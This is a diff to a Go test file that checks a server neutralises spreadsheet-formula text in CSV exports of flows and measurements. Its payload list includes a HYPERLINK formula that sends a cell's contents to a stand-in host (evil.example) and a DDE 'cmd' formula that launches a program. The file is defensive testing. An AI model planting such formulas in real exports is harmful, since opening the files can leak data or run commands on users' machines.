@@ -118,8 +118,9 @@ func (s *testServer) checkExport(t *testing.T, path string) int {
 					t.Fatalf("%s: row %d %s = %q, want empty (%v, present %v)", path, i+1, col, cell, v, ok)
 				}
 			case string:
-				// encoding/csv reads a quoted CRLF as LF.
-				if cell != strings.ReplaceAll(v, "\r\n", "\n") {
+				// encoding/csv reads a quoted CRLF as LF; a text that a
+				// spreadsheet would take for a formula has a ' before it.
+				if cell != strings.ReplaceAll(csvText(v), "\r\n", "\n") {
 					t.Fatalf("%s: row %d %s = %q, want %q", path, i+1, col, cell, v)
 				}
 			case json.Number:
@@ -551,6 +552,73 @@ func TestExportCSVRecord(t *testing.T) {
 	if !reflect.DeepEqual(record, want) {
 		t.Fatalf("record %q, want %q", record, want)
 	}
+
+	// A text a spreadsheet would read as a formula gets a ' before it,
+	// escaped or not in the JSON; a number does not.
+	for _, c := range []struct {
+		s    string
+		n    float64
+		want []string
+	}{
+		{"=1+1", -2, []string{"'=1+1", "-2"}},
+		{"+1", 0, []string{"'+1", "0"}},
+		{"-x\n", 0, []string{"'-x\n", "0"}},
+		{"@SUM(1,2)", 0, []string{"'@SUM(1,2)", "0"}},
+		{"\t=1", 0, []string{"'\t=1", "0"}},
+		{"\r=1", 0, []string{"'\r=1", "0"}},
+		{"a=1", 0, []string{"a=1", "0"}},
+	} {
+		b, _ := json.Marshal(item{S: c.s, N: c.n})
+		record := make([]string, len(cols.names))
+		if err := cols.split(b, record); err != nil {
+			t.Fatal(err)
+		}
+		if record[0] != c.want[0] || record[2] != c.want[1] {
+			t.Errorf("%q, %v: cells %q and %q, want %q", c.s, c.n, record[0], record[2], c.want)
+		}
+	}
+}
+
+// In a CSV export, stored text that a spreadsheet would run as a formula
+// is neutralised with a ' (the generic path, here flows, and the hand-
+// written measurement rows alike); NDJSON keeps it exactly.
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	s := newTestServer(t)
+	payloads := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-2+3", "@SUM(1,2)", "\t=1", "=cmd|' /C calc'!A0"}
+	var flows []string
+	for _, p := range payloads {
+		b, _ := json.Marshal(p)
+		flows = append(flows, fmt.Sprintf(`{"src_app":%s,"dest_app":"d","vpc_id":"v","bytes_tx":1,"bytes_rx":2,"hour":5}`, b))
+	}
+	s.do("POST", "/flows", "["+strings.Join(flows, ",")+"]").wantStatus(t, http.StatusCreated)
+	name, _ := json.Marshal(payloads[0])
+	s.do("POST", "/api/measurements", fmt.Sprintf(`[{"name":%s,"method":"GET","startedAt":%d,"endedAt":%d}]`, name, day0, day0+1)).
+		wantStatus(t, http.StatusCreated)
+	for _, path := range []string{"/flows?hour=5", fmt.Sprintf("/api/measurements/?startedAt=%d&endedAt=%d", day0-1, day0+2)} {
+		records, err := csv.NewReader(bytes.NewReader(s.export(t, path, "text/csv"))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		n := 0
+		for _, r := range records[1:] {
+			for _, cell := range r {
+				if cell != "" && formulaStart[cell[0]] {
+					t.Errorf("%s: cell %q starts a formula", path, cell)
+				}
+				if strings.HasPrefix(cell, "'") {
+					n++
+				}
+			}
+		}
+		if want := map[bool]int{true: len(payloads), false: 1}[strings.HasPrefix(path, "/flows")]; n != want {
+			t.Errorf("%s: %d neutralised cells, want %d: %q", path, n, want, records)
+		}
+		if nd := s.export(t, path, "application/x-ndjson"); !bytes.Contains(nd, []byte(`"@SUM(1,2)"`)) && strings.HasPrefix(path, "/flows") {
+			t.Errorf("%s: NDJSON does not keep the text exactly: %s", path, nd)
+		}
+	}
+	s.checkExport(t, "/flows?hour=5")
 }
 
 // A client that gives up before the first row is a 499 in the logs and
